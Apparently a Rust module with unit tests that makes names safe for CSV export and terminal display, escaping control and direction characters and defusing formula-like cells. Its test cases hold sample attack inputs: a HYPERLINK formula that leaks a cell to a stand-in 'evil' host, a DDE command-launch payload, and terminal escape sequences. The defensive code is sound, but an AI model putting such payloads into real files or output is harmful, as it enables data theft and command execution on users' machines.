//! Makes text harmless for the programs that show it: terminals and spreadsheets.
//!
//! The names in a result come from the author of its file, who can be anyone with the public key.
#![cfg_attr(not(test), deny(clippy::indexing_slicing, clippy::arithmetic_side_effects))]

use std::{borrow::Cow, fmt::Write};

/// Spreadsheets read text with one of these first characters as a formula. Some locales also accept
/// the wide forms.
const FORMULA_STARTS: [char; 10] =
    ['=', '+', '-', '@', '\t', '\r', '\u{ff1d}', '\u{ff0b}', '\u{ff0d}', '\u{ff20}'];

/// Returns whether a character, other than the line end, controls a terminal or reorders text.
#[must_use]
pub fn acts_on_terminal(c: char) -> bool {
    // Direction marks reorder what follows, so a name could disguise the text around it.
    let turns = matches!(c, '\u{61c}' | '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}');
    (c.is_control() && c != '\n') || turns || matches!(c, '\u{2028}' | '\u{2029}')
}

/// Writes the characters for which `acts` is true as JSON escapes, such as `\u001b`.
pub fn escaped(text: &str, acts: impl Fn(char) -> bool) -> Cow<'_, str> {
    // Nearly every text is harmless, so the common case copies nothing.
    if !text.contains(&acts) {
        return Cow::Borrowed(text);
    }
    let mut escaped = String::with_capacity(text.len());
    for c in text.chars() {
        match c {
            c if !acts(c) => escaped.push(c),
            '\n' => escaped += "\\n",
            '\r' => escaped += "\\r",
            '\t' => escaped += "\\t",
            c => {
                let _ = write!(escaped, "\\u{:04x}", u32::from(c));
            }
        }
    }
    Cow::Owned(escaped)
}

/// Returns a CSV cell that is harmless in a spreadsheet. Text that looks like a formula gets an
/// apostrophe in front, and control characters are escaped. Numbers stay unchanged.
#[must_use]
pub fn cell(text: &str) -> Cow<'_, str> {
    // Line ends count here, too, because a cell stays in one line.
    let escaped = escaped(text, |c| acts_on_terminal(c) || c == '\n');
    // A negative number begins like a formula, and must stay a number.
    match text.starts_with(FORMULA_STARTS) && text.parse::<f64>().is_err() {
        true => format!("'{escaped}").into(),
        false => escaped,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn cells_do_nothing_in_a_spreadsheet() {
        for (text, written) in [
            // Numbers, and text that is harmless.
            ("-1.5", "-1.5"),
            ("+3", "+3"),
            ("-1e-300", "-1e-300"),
            ("-inf", "-inf"),
            ("NaN", "NaN"),
            ("", ""),
            ("Größe, 身長 🏥", "Größe, 身長 🏥"),
            ("a=b", "a=b"),
            ("it's", "it's"),
            (" =1", " =1"),
            // Formulas.
            ("=HYPERLINK(\"http://evil/\"&A1)", "'=HYPERLINK(\"http://evil/\"&A1)"),
            ("=1", "'=1"),
            ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
            ("-1+1", "'-1+1"),
            ("-", "'-"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\t=1", "'\\t=1"),
            ("\r=1", "'\\r=1"),
            ("\u{ff1d}1", "'\u{ff1d}1"),
            // Control characters.
            ("\x1b]0;owned\x07", "\\u001b]0;owned\\u0007"),
            ("a\nb\r\nc\td\0", "a\\nb\\r\\nc\\td\\u0000"),
            ("\u{9b}2J\u{7f}", "\\u009b2J\\u007f"),
            ("ab\u{202e}ba\u{2066}\u{2028}", "ab\\u202eba\\u2066\\u2028"),
        ] {
            assert_eq!(cell(text), written);
        }
    }
}
